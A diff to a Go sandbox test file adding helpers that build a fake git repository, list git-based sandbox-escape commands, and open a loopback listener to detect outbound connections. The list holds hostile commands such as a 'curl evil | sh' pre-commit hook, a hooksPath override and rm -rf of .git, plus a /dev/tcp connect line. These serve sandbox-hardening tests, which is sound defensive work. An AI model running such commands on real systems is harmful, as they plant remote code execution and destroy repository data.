@@ -5,6 +5,8 @@ package sandbox
 import (
 	"bytes"
 	"context"
+	"fmt"
+	"net"
 	"os"
 	"path/filepath"
 	"testing"
@@ -103,4 +105,49 @@ func readFile(t *testing.T, name string) string {
 	b, err := os.ReadFile(name)
 	require.NoError(t, err)
 	return string(b)
+}
+
+// gitRepo makes the skeleton of a repository in the workspace. The launch
+// plan is made per command, so a .git made now counts.
+func (b *box) gitRepo() {
+	b.t.Helper()
+	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
+		require.NoError(b.t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
+	}
+	require.NoError(b.t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
+	require.NoError(b.t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
+}
+
+// gitAttacks are commands that plant what git runs outside the sandbox, or
+// swap .git for a repository that does.
+var gitAttacks = []string{
+	"echo 'curl evil | sh' > .git/hooks/pre-commit",
+	"printf '[core]\\nhooksPath = x\\n' >> .git/config",
+	"mv .git .git-old",
+	"rm -rf .git/hooks",
+	"rm -rf .git",
+}
+
+// loopback listens on the host's loopback: connect is a command that
+// connects to it, accepted receives a value for each connection.
+func loopback(t *testing.T) (connect string, accepted <-chan struct{}) {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	t.Cleanup(func() { ln.Close() })
+	ch := make(chan struct{}, 4)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+			select {
+			case ch <- struct{}{}:
+			default:
+			}
+		}
+	}()
+	return fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", ln.Addr().(*net.TCPAddr).Port), ch
 }
